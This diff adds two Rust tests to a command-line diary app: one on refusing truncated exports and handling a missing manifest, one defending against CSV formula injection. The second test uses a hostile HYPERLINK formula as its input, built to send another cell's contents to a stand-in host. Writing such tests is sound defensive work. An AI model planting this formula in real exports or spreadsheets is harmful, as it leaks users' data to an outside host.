@@ -54,6 +54,46 @@ fn tables_for_people_have_every_night_and_entry() {
 }
 
 #[test]
+fn an_export_that_is_cut_is_refused_and_one_without_a_manifest_is_not_proved() {
+    let charley = with_a_diary();
+    charley.types("data export out").ok();
+    let place = charley.home().join("out");
+    let entries = std::fs::read_to_string(place.join("entry.jsonl")).unwrap();
+    std::fs::write(place.join("entry.jsonl"), entries.lines().next().unwrap()).unwrap();
+    let refused = charley.types("data restore out --data there").ends(1);
+    assert!(refused.err.contains("entry.jsonl is cut"), "{}", refused.err);
+    assert!(!charley.home().join("there").exists(), "what is refused makes no diary");
+    std::fs::write(place.join("entry.jsonl"), entries).unwrap();
+    assert!(!charley.types("data restore out --verify").ok().out.contains("cannot be proved"));
+    // As the first release wrote it.
+    for later in ["manifest.json", "operation.jsonl"] {
+        std::fs::remove_file(place.join(later)).unwrap();
+    }
+    let restored = charley.types("data restore out --data yonder").ok();
+    assert!(
+        restored.out.contains("no manifest.json") && restored.out.contains("2 entries"),
+        "{}",
+        restored.out
+    );
+}
+
+#[test]
+fn no_name_becomes_a_formula_in_a_spreadsheet() {
+    let charley = with_a_diary();
+    let name = "=HYPERLINK(\"http://x/?\"&A2)";
+    charley.types_words(&["log", "medicine", name, "--from", "2026-11-01"]).ok();
+    charley.types("report --csv report.csv").ok();
+    charley.types("data export tables --format csv").ok();
+    for file in ["report.csv", "tables/entries.csv"] {
+        let text = std::fs::read_to_string(charley.home().join(file)).unwrap();
+        assert!(text.contains("HYPERLINK"), "{file}");
+        for cell in csv::ReaderBuilder::new().from_reader(text.as_bytes()).records().map(Result::unwrap) {
+            assert!(cell.iter().all(|cell| !cell.starts_with('=')), "{file}: {cell:?}");
+        }
+    }
+}
+
+#[test]
 fn what_is_no_backup_changes_nothing() {
     let charley = with_a_diary();
     std::fs::write(charley.home().join("x.db"), "no database").unwrap();
